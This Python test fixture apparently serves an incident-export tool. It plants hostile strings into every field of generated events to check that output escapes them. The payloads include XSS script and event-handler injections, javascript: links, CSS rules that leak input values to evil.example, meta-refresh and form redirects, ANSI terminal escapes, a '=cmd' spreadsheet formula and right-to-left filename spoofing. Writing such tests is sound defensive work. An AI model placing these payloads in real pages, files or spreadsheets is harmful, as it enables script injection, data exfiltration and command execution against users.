"""What a target, a notebook or a stranger may write, planted in every field of every event."""

from collections.abc import Mapping
from typing import Any

from interlock.export import Entry
from interlock.export.narrate import TELLERS
from sample_incident import INCIDENT, Part, Story

OWN = "window.owned=1;document.title='owned';alert(1)"
CASES: Mapping[str, str] = {
    "script": f'<script>{OWN}</script><img src=x onerror="{OWN}"><body onload={OWN}>',
    "breakout": f"</script></textarea></title></style><!--<script>{OWN}</script>-->"
    f"<b onclick={OWN}>",
    "css": "</style><style>*{background:url(https://evil.example/c)}"
    "input[value^=a]{background:url(https://evil.example/a)}@import 'https://evil.example/i';",
    "svg": f"<svg onload={OWN}><foreignObject><iframe srcdoc='<script>{OWN}</script>'></iframe>"
    "<image href='https://evil.example/s.png'/></svg>",
    "link": f"[x](javascript:{OWN}) <a href='javascript:{OWN}'>y</a> javascript:{OWN} "
    "https://evil.example/auto data:text/html,<script>alert(1)</script>",
    "load": "<meta http-equiv=refresh content='0;url=https://evil.example'>"
    "<base href=//evil.example>"
    "<link rel=stylesheet href=//evil.example><iframe src=//evil.example></iframe>"
    "<form action=//evil.example><button autofocus>Approve</button></form>",
    "ansi": "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\\\link\x9b31m red \x1b[0m",
    "formula": "=cmd|'/C calc'!A0\t+1+1\r\n-2+3\n@SUM(A1)\n\uff1d1+1",
    "markdown": "| a | b |\n|---|---|\n```\n# h\n~~~mermaid\n"
    "![i](https://evil.example/m)\n[#1] [#9]",
    "nul": "a\x00b\x01\x7f\x85",
    "not-utf8": "a\ud800b\udfffc\ufffd\ufffe",
    "rtl": "\u202eexe.gpj\u202c \u2066x\u2069 \u200b\u200f\u061c \U000e0041\ufeff",
    "attribute": '" onmouseover="' + OWN + "\" autofocus onfocus='" + OWN + "' x=\"&quot;&#34;`",
}
"""Name → text; each is shown as what it is, and does nothing."""

WORDS = (
    "run", "step", "approval", "plan", "target", "tier", "effect", "line", "code", "operation",
    "person", "role", "channel", "requester", "rule", "needs", "severity", "from", "to", "outcome",
    "runbook", "version", "mode", "host", "confinement", "recorded_by", "form", "truncated",
    "output_truncated", "state", "cause", "followup", "owner", "source", "author", "account",
    "permalink", "ts", "vote", "by", "eligible", "approvals", "told", "mimetype", "ordinal",
)  # fmt: skip
TEXTS = (
    "title", "text", "reason", "summary", "statement", "promql", "logql", "source", "message",
    "prompt", "undo", "undo_sql", "error", "notebook", "handle", "answer", "sent", "anything",
)  # fmt: skip


def planted(text: str) -> list[Entry]:
    """Return one event of every kind, and of none that is known, with `text` in every field."""
    story = Story()
    for kind in (*TELLERS, "external.alert_fired", "milestone.detected", "log.clock_skew", text):
        story.tell(kind, len(story.entries), _words(text), by=f"person:{text}")
        story.tell(kind, len(story.entries), _parts(text), by=f"run:{text}")
        event = {**story.entries[-1].event, "subject": text, "authid": text, "id": text}
        story.entries[-1] = Entry(event, story.entries[-1].parts)
    return story.entries


def incident(text: str) -> dict[str, Any]:
    """Return the incident with `text` in every field but its number."""
    return {**dict.fromkeys(INCIDENT, text), "id": "INC-1", "roles": {text: text}}


def _words(text: str) -> dict[str, Any]:
    listed = {key: [text] for key in ("by", "eligible", "approvals", "told")}
    return dict.fromkeys(WORDS, text) | listed | {text: text, "more": {text: [text]}}


def _parts(text: str) -> dict[str, Any]:
    bundle = {"text/html": text, "image/svg+xml": text, "image/png": text, text: text}
    outputs = [
        {"kind": "stream", "name": text, "text": text},
        {"kind": "display", "data": bundle},
        {"kind": "result", "mimetype": "text/html", "data": text},
    ]
    grid = {"columns": [{"name": text, "type": text}], "rows": [[text]], "truncated": text}
    finding = {"status": text, "text": text, "next": text, "data": {text: text}}
    return {
        "run": "R-1", "step": "s", "approval": "A-1", "attempt": 1,
        "outputs": Part(outputs), "finding": Part(finding), "result": Part(grid),
        "args": Part({text: {"type": text, "value": text, "origin": text}}),
        "reasons": Part([{text: text}]),
        "error": Part({"name": text, "message": text, "traceback": [text]}),
        **{key: Part(text) for key in TEXTS if key != "error"},
    }  # fmt: skip
